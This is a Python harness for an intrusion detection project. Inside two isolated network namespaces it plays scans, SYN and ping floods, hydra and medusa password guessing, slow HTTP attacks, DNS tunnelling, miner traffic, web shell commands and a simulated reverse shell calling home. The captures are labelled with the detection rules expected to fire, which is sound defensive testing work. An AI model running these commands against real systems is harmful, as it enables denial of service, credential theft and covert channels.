#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks played live, for `make score-detect` to say which rules see them.

usage: attacks.py FOLDER

An attacker and a victim, each in a network namespace of its own, joined by one link; tcpdump on the victim's side writes a
capture for each attack to FOLDER, and `attacks.jsonl` lists them with the rules of which one ought to see it. The tools are those
of Debian; where one is not installed the attack is listed as not played. Services are small ones in this file, besides
sshd and iodined. Nothing leaves the two namespaces. Each attack is bounded in packets and in time (LIMIT).

Beacons are played at once and then moved apart in the capture, with jitter, because hours cannot be waited for.

Needs root, `ip` and `tcpdump`.
"""
import base64
import json
import os
import random
import shutil
import socket
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
import time

NAME = "mina%d" % os.getpid()
ATTACKER, VICTIM, OUTSIDE = "10.77.0.66", "10.77.0.5", "203.0.113.9"
LIMIT = 60
WORDS = ["secret%d" % n for n in range(39)] + ["rightone"]
USER, PASSWORD = "carol", "rightone"


def run(*command, **more):
    return subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **more)


def inside(side, *command):
    return ("ip", "netns", "exec", NAME + side) + command


class Network:
    """Two namespaces and a link; the victim's answers for a whole subnet and for an address outside."""

    def __enter__(self):
        for side in "av":
            run("ip", "netns", "add", NAME + side, check=True)
            run(*inside(side, "ip", "link", "set", "lo", "up"))
        run("ip", "link", "add", "name", "att0", "netns", NAME + "a", "type", "veth", "peer", "name", "vic0", "netns", NAME + "v", check=True)
        for side, link, address in (("a", "att0", ATTACKER), ("v", "vic0", VICTIM)):
            run(*inside(side, "ip", "address", "add", address + "/24", "dev", link), check=True)
            run(*inside(side, "ip", "link", "set", link, "up"))
        run(*inside("v", "ip", "address", "add", OUTSIDE + "/32", "dev", "lo"))
        # Half of a second subnet answers, the other half is dark.
        run(*inside("v", "ip", "route", "add", "local", "10.78.0.0/25", "dev", "lo"))
        run(*inside("a", "ip", "route", "add", "default", "via", VICTIM))
        return self

    def __exit__(self, *_):
        for side in "av":
            run("ip", "netns", "delete", NAME + side)


def record(path):
    """tcpdump that is ready, to be ended with `stop`."""
    command = inside("v", "tcpdump", "-i", "vic0", "-w", path, "-U", "-s", "1600", "-B", "65536", "ip or arp")
    dump = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    dump.stderr.readline()
    time.sleep(0.3)
    return dump


def stop(dump):
    time.sleep(0.7)
    dump.terminate()
    dump.wait(10)


# Services of the victim, each a few lines of its protocol.

class Lines(socketserver.StreamRequestHandler):
    greeting = b""

    def say(self, text):
        self.wfile.write(text.encode() + b"\r\n")

    def handle(self):
        try:
            if self.greeting:
                self.wfile.write(self.greeting + b"\r\n")
            self.state = {}
            for line in iter(self.rfile.readline, b""):
                if self.answer(line.decode("latin-1").strip()) is False:
                    return
        except OSError:
            pass


class Ftp(Lines):
    greeting = b"220 FTP server ready"

    def answer(self, line):
        verb, _, rest = line.partition(" ")
        verb = verb.upper()
        if verb == "USER":
            self.state["user"] = rest
            self.say("331 Password required")
        elif verb == "PASS":
            good = (self.state.get("user"), rest) == (USER, PASSWORD)
            self.say("230 Logged in" if good else "530 Login incorrect")
        elif verb == "QUIT":
            self.say("221 Bye")
            return False
        else:
            self.say("215 UNIX Type: L8" if verb == "SYST" else "502 No")


class Pop3(Lines):
    greeting = b"+OK POP3 ready"

    def answer(self, line):
        verb, _, rest = line.partition(" ")
        verb = verb.upper()
        if verb == "USER":
            self.state["user"] = rest
            self.say("+OK")
        elif verb == "PASS":
            good = (self.state.get("user"), rest) == (USER, PASSWORD)
            self.say("+OK in" if good else "-ERR refused")
        elif verb == "CAPA":
            self.say("+OK\r\nUSER\r\n.")
        elif verb == "QUIT":
            self.say("+OK")
            return False
        else:
            self.say("-ERR what")


class Imap(Lines):
    greeting = b"* OK IMAP4rev1 ready"

    def answer(self, line):
        tag, _, rest = line.partition(" ")
        verb, _, rest = rest.partition(" ")
        if verb.upper() == "CAPABILITY":
            self.say("* CAPABILITY IMAP4rev1\r\n%s OK done" % tag)
        elif verb.upper() == "LOGIN":
            good = [part.strip('"') for part in rest.split(" ")] == [USER, PASSWORD]
            self.say("%s %s" % (tag, "OK in" if good else "NO refused"))
        elif verb.upper() == "LOGOUT":
            self.say("* BYE\r\n%s OK" % tag)
            return False
        else:
            self.say("%s BAD what" % tag)


class Smtp(Lines):
    greeting = b"220 mail ESMTP ready"

    def answer(self, line):
        verb, _, rest = line.partition(" ")
        if self.state.get("wait"):
            self.state["given"] = self.state.get("given", []) + [base64.b64decode(line + "==").decode("latin-1")]
            if len(self.state["given"]) < 2:
                self.say("334 UGFzc3dvcmQ6")
                return
            self.state["wait"] = False
            self.say("235 in" if self.state.pop("given") == [USER, PASSWORD] else "535 refused")
        elif verb.upper() in ("EHLO", "HELO"):
            self.say("250-mail\r\n250 AUTH LOGIN")
        elif line.upper().startswith("AUTH LOGIN"):
            self.state["wait"] = True
            self.say("334 VXNlcm5hbWU6")
        elif verb.upper() == "QUIT":
            self.say("221 Bye")
            return False
        else:
            self.say("502 no")


class Web(socketserver.StreamRequestHandler):
    """Asks for a password below /private, knows / and nothing else."""

    def handle(self):
        try:
            while True:
                first = self.rfile.readline()
                if not first:
                    return
                fields = {}
                for line in iter(self.rfile.readline, b"\r\n"):
                    if not line:
                        return
                    name, _, value = line.decode("latin-1").partition(":")
                    fields[name.lower()] = value.strip()
                path = (first.split(b" ") + [b""])[1]
                want = "Basic " + base64.b64encode(("%s:%s" % (USER, PASSWORD)).encode()).decode()
                status = "200 OK" if path == b"/" else "404 Not Found"
                if path.startswith(b"/private"):
                    status = "200 OK" if fields.get("authorization") == want else "401 Unauthorized"
                if path.startswith(b"/task"):
                    status = "200 OK"
                body = b"hello\n"
                head = "HTTP/1.1 %s\r\nContent-Length: %d\r\nWWW-Authenticate: Basic realm=x\r\n\r\n" % (status, len(body))
                self.wfile.write(head.encode() + body)
        except OSError:
            pass


class Stratum(Lines):
    def answer(self, line):
        number = json.loads(line)["id"]
        self.wfile.write(json.dumps({"id": number, "result": True, "error": None}).encode() + b"\n")


class Modbus(socketserver.StreamRequestHandler):
    """A controller with one unit that has coils and nothing else."""

    def handle(self):
        while True:
            head = self.rfile.read(7)
            if len(head) < 7:
                return
            number, _, length, unit = struct.unpack(">HHHB", head)
            function = self.rfile.read(length - 1)[0]
            body = bytes([function, 1, 0]) if (unit, function) == (1, 1) else bytes([function | 0x80, 11 if unit != 1 else 1])
            self.wfile.write(struct.pack(">HHHB", number, 0, len(body) + 1, unit) + body)


class Shells(socketserver.StreamRequestHandler):
    """Where shells call home: says what they are to do."""

    def handle(self):
        for command in (b"whoami\n", b"ipconfig\n", b"exit\n"):
            self.request.recv(4096)
            self.wfile.write(command)


class Server(socketserver.ThreadingTCPServer):
    """What a client breaks off or garbles ends its connection and nothing else."""

    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 512

    def handle_error(self, *_):
        pass


SERVICES = {21: Ftp, 25: Smtp, 80: Web, 110: Pop3, 143: Imap, 502: Modbus, 3333: Stratum, 4444: Shells}


def serve():
    for port, handler in SERVICES.items():
        threading.Thread(target=Server(("0.0.0.0", port), handler).serve_forever, daemon=True).start()
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind((OUTSIDE, 53))

    def names():
        while True:
            query, who = dns.recvfrom(4096)
            # The same question, and a text of sixty octets.
            answer = query[:2] + b"\x84\x00\x00\x01\x00\x01\x00\x00\x00\x00" + query[12:] + b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x00\x00\x3d\x3c" + os.urandom(30).hex().encode()
            dns.sendto(answer, who)

    threading.Thread(target=names, daemon=True).start()
    print("ready", flush=True)
    sys.stdin.read()


# Attacks that no tool of Debian plays, run inside the attacker's namespace.

def ask(path, host=OUTSIDE):
    with socket.create_connection((host, 80), 5) as connection:
        connection.sendall(b"GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % (path, host.encode()))
        connection.recv(4096)


def play_beacon():
    for _ in range(240):
        ask(b"/task?id=%s" % os.urandom(random.choice((8, 8, 8, 12))).hex().encode())


def play_dns_text():
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(1)
    for number in range(600):
        labels = [os.urandom(30).hex().encode(), os.urandom(20).hex().encode(), b"t", b"example"]
        name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
        query.sendto(struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + name + b"\x00\x10\x00\x01", (OUTSIDE, 53))
        query.recv(4096)


def play_stratum():
    with socket.create_connection((OUTSIDE, 3333), 5) as pool:
        for number, method in enumerate(["mining.subscribe", "mining.authorize"] + ["mining.submit"] * 8):
            call = {"id": number, "method": method, "params": ["worker.1", "x"]}
            pool.sendall(json.dumps(call).encode() + b"\n")
            pool.recv(4096)
            time.sleep(0.2)


def play_paths():
    for number in range(120):
        ask(b"/admin%d.php" % number, VICTIM)


def play_controllers():
    with socket.create_connection((VICTIM, 502), 5) as controller:
        for unit in range(1, 40):
            for function in (1, 3, 17):
                controller.sendall(struct.pack(">HHHBBHH", unit, 0, 6, unit, function, 0, 1))
                controller.recv(300)


def play_shell():
    with socket.create_connection((OUTSIDE, 4444), 5) as home:
        home.sendall(b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\>")
        for answer in (b"lab\\carol\r\n\r\nC:\\>", b"\r\nWindows IP Configuration\r\n\r\nC:\\>"):
            home.recv(300)
            home.sendall(answer)


def play_web_shell():
    for command in (b"whoami", b"id", b"ls+-la"):
        ask(b"/task/a.php?cmd=%s" % command, VICTIM)


def play_communities():
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = b"\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00"
    for word in WORDS:
        bound = b"\x30" + bytes([len(name) + 4]) + b"\x30" + bytes([len(name) + 2]) + name + b"\x05\x00"
        body = b"\x02\x01\x07\x02\x01\x00\x02\x01\x00" + bound
        message = b"\x02\x01\x01\x04" + bytes([len(word)]) + word.encode() + b"\xa0" + bytes([len(body)]) + body
        probe.sendto(b"\x30" + bytes([len(message)]) + message, (VICTIM, 161))
        # One port a question: each is a flow of its own.
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        time.sleep(0.05)


PLAYS = {"communities": play_communities, "controllers": play_controllers, "shell": play_shell, "web_shell": play_web_shell, "beacon": play_beacon, "dns_text": play_dns_text, "stratum": play_stratum, "paths": play_paths}


def spread(path, seconds, jitter):
    """Moves the connections of a capture apart: each begins so long after the one before, more or less."""
    chance = random.Random(7)
    data = open(path, "rb").read()
    head, place, out = data[:24], 24, [data[:24]]
    assert head[:4] == b"\xd4\xc3\xb2\xa1"
    starts, shift, last = {}, {}, None
    while place + 16 <= len(data):
        second, micro, kept, length = struct.unpack_from("<IIII", data, place)
        packet = data[place + 16:place + 16 + kept]
        at = second + micro / 1e6
        ports = packet[34:38] if packet[12:14] == b"\x08\x00" and packet[23] == 6 else b""
        key = bytes(sorted((ports[:2], ports[2:]))[1]) if ports else b""
        if ports and packet[47] & 0x12 == 2 and key not in starts:
            last = at if last is None else last + seconds * (1 + jitter * (2 * chance.random() - 1))
            starts[key], shift[key] = at, last - at
        at += shift.get(key, 0)
        out.append((at, struct.pack("<IIII", int(at), int(at % 1 * 1e6), kept, length) + packet))
        place += 16 + kept
    with open(path, "wb") as file:
        file.write(out[0] + b"".join(packet for _, packet in sorted(out[1:], key=lambda item: item[0])))


def attacks(words, folder):
    """Name, tool, command inside the attacker's namespace, rules of which one ought to see it."""
    hydra = ["hydra", "-I", "-t", "4", "-l", USER, "-P", words]
    here = ["python3", os.path.abspath(__file__), "--play"]
    return [
        ("SYN scan of 1,000 ports", ["nmap", "-n", "-Pn", "-sS", "-p1-1000", VICTIM], ["scan_ports"]),
        ("connect scan of the usual ports", ["nmap", "-n", "-Pn", "-sT", "--top-ports", "500", VICTIM], ["scan_ports"]),
        ("scan with FIN", ["nmap", "-n", "-Pn", "-sF", "-p1-200", VICTIM], ["scan_flags"]),
        ("scan with FIN, PSH and URG", ["nmap", "-n", "-Pn", "-sX", "-p1-200", VICTIM], ["scan_flags"]),
        ("scan over UDP", ["nmap", "-n", "-Pn", "-sU", "-p1-300", "--max-retries", "0", "--min-rate", "100", VICTIM], ["scan_ports"]),
        ("one port of a subnet", ["nmap", "-n", "-Pn", "-sS", "-p445", "--max-retries", "0", "10.78.0.0/24"], ["scan_hosts"]),
        ("ping of a subnet", ["nmap", "-n", "-sn", "-PE", "--max-retries", "0", "10.78.0.0/24"], ["icmp_sweep", "icmp_sweep_bare"]),
        ("ping of sixteen hosts", ["nmap", "-n", "-sn", "-PE", "10.78.0.0/28"], ["icmp_sweep_bare"]),
        ("ARP search of a subnet", ["nmap", "-n", "-sn", "-PR", "10.77.0.0/24"], ["scan_arp"]),
        ("system by its answers", ["nmap", "-n", "-Pn", "-O", "-p20-30,80,81", VICTIM], ["scan_os"]),
        ("versions of services", ["nmap", "-n", "-Pn", "-sV", "-sC", "-p21,25,80,110,143", VICTIM], ["scan_versions"]),
        ("SYN scan at full rate", ["masscan", "10.78.0.0/25", "-p1-100", "--rate", "3000", "--wait", "1", "--interface", "att0",
                                   "--router-mac", "VICTIM_MAC", "--source-ip", ATTACKER], ["scan_ports", "scan_hosts", "scan_mixed"]),
        ("SYN flood from many sources", ["hping3", "-q", "-S", "-p", "80", "--rand-source", "-i", "u150", "-c", "60000", VICTIM], ["flood_syn"]),
        ("SYN flood from one source", ["hping3", "-q", "-S", "-p", "80", "-i", "u150", "-c", "60000", VICTIM], ["flood_syn"]),
        ("ping flood", ["hping3", "-q", "-1", "-i", "u200", "-c", "40000", VICTIM], ["icmp_flood"]),
        ("guessing over SSH", hydra + ["ssh://%s:22" % VICTIM], ["guess_password", "guess_ssh"]),
        ("guessing over FTP", hydra + ["ftp://%s" % VICTIM], ["guess_refused", "guess_entered"]),
        ("guessing over POP3", hydra + ["pop3://%s" % VICTIM], ["guess_refused", "guess_entered"]),
        ("guessing over IMAP", hydra + ["imap://%s" % VICTIM], ["guess_refused", "guess_entered"]),
        ("guessing over SMTP", hydra + ["smtp://%s" % VICTIM], ["guess_refused", "guess_entered"]),
        ("guessing over HTTP", hydra + ["http-get://%s/private" % VICTIM], ["guess_refused", "guess_http"]),
        ("guessing over FTP with medusa", ["medusa", "-h", VICTIM, "-u", USER, "-P", words, "-M", "ftp", "-t", "4"], ["guess_refused", "guess_entered"]),
        ("guessing over SSH with medusa", ["medusa", "-h", VICTIM, "-u", USER, "-P", words, "-M", "ssh", "-t", "4"], ["guess_password", "guess_ssh"]),
        ("slow heads", ["slowhttptest", "-H", "-c", "200", "-r", "100", "-i", "5", "-l", "45", "-u", "http://%s/" % VICTIM], ["flood_slow"]),
        ("pages that do not exist", here + ["paths"], ["web_discovery"]),
        ("tunnel in DNS", ["sh", "-c", "iodine -f -r -P pw %s t.example & sleep 6; ping -q -c 300 -i 0.02 -s 600 10.79.0.1; kill %%1" % OUTSIDE],
         ["tunnel_dns", "tunnel_dns_volume"]),
        ("data in names of DNS, answers in texts", here + ["dns_text"], ["tunnel_dns", "tunnel_dns_volume"]),
        ("miner", here + ["stratum"], ["miner"]),
        ("units of a controller", here + ["controllers"], ["control_scan"]),
        ("shell that calls home", here + ["shell"], ["shell_clear"]),
        ("commands to a page", here + ["web_shell"], ["webshell"]),
        ("protocols above IP", ["nmap", "-n", "-Pn", "-sO", "--max-retries", "0", "--min-rate", "50", VICTIM], ["scan_protocols"]),
        ("communities of SNMP", here + ["communities"], ["snmp_guess"]),
        ("beacon of a minute, jitter of a tenth", here + ["beacon"], ["beacon"]),
        ("beacon of a minute, jitter of a third", here + ["beacon"], ["beacon"]),
    ]


SPREAD = {"beacon of a minute, jitter of a tenth": (60, 0.1), "beacon of a minute, jitter of a third": (60, 0.33)}


def services(folder):
    """The victim's services: those of this file, sshd, and iodined once its attack comes."""
    command = inside("v", "python3", os.path.abspath(__file__), "--serve")
    started = [subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)]
    started[0].stdout.readline()
    if shutil.which("sshd") or os.path.exists("/usr/sbin/sshd"):
        key = os.path.join(folder, "host_key")
        run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key)
        os.makedirs("/run/sshd", exist_ok=True)
        options = ["-o", "MaxStartups=100", "-o", "UsePAM=no", "-o", "PasswordAuthentication=yes", "-o", "PidFile=none"]
        started.append(subprocess.Popen(inside("v", "/usr/sbin/sshd", "-D", "-f", "/dev/null", "-h", key, *options),
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        time.sleep(0.5)
    return started


def installed(tool):
    return shutil.which(tool, path=os.environ.get("PATH", "") + ":/usr/sbin:/usr/local/sbin")


def main(folder):
    os.makedirs(folder, exist_ok=True)
    if os.geteuid() != 0 or not installed("tcpdump") or not installed("ip"):
        open(os.path.join(folder, "attacks.jsonl"), "w").close()
        print("attacks.py: skipped: wants root, ip and tcpdump")
        return
    # A part of a name, to play one attack.
    only = os.environ.get("MINAMO_ATTACK", "")
    with Network(), tempfile.TemporaryDirectory() as scratch, open(os.path.join(folder, "attacks.jsonl"), "w") as table:
        words = os.path.join(scratch, "words")
        with open(words, "w") as file:
            file.write("\n".join(WORDS) + "\n")
        mac = subprocess.check_output(inside("v", "cat", "/sys/class/net/vic0/address"), text=True).strip()
        started = services(scratch)
        try:
            for number, (name, command, rules) in enumerate(attacks(words, scratch)):
                if only not in name:
                    continue
                tool = "attacks.py" if command[0] == "python3" else "iodine" if command[0] == "sh" else command[0]
                row = {"attack": name, "tool": tool, "rules": rules}
                if tool != "attacks.py" and not installed(tool):
                    row["skipped"] = tool + " is not installed"
                else:
                    row["capture"] = "%02d.pcap" % number
                    play(os.path.join(folder, row["capture"]), name, [part.replace("VICTIM_MAC", mac) for part in command])
                print("%-45s %s" % (name, row.get("skipped", row.get("capture"))), flush=True)
                table.write(json.dumps(row) + "\n")
        finally:
            for service in started:
                service.terminate()
            for service in started:
                service.wait(10)


def play(path, name, command):
    tunnel = None
    if command[0] == "sh":
        # iodined takes the port of the small DNS server.
        tunnel = subprocess.Popen(inside("v", "iodined", "-f", "-c", "-P", "pw", "-l", VICTIM, "10.79.0.1", "t.example"),
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        command = [part.replace(OUTSIDE, VICTIM) for part in command]
        time.sleep(1)
    dump = record(path)
    attack = subprocess.Popen(inside("a", *command), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True)
    try:
        attack.wait(LIMIT)
    except subprocess.TimeoutExpired:
        pass
    if attack.poll() is None or tunnel:
        try:
            os.killpg(attack.pid, 15)
        except ProcessLookupError:
            pass
        attack.wait(10)
    stop(dump)
    if tunnel:
        tunnel.terminate()
        tunnel.wait(10)
    if name in SPREAD:
        spread(path, *SPREAD[name])


if __name__ == "__main__":
    if sys.argv[1:2] == ["--serve"]:
        serve()
    elif sys.argv[1:2] == ["--play"] and sys.argv[2:3] and sys.argv[2] in PLAYS:
        PLAYS[sys.argv[2]]()
    elif len(sys.argv) == 2 and not sys.argv[1].startswith("-"):
        main(sys.argv[1])
    else:
        sys.exit(__doc__)
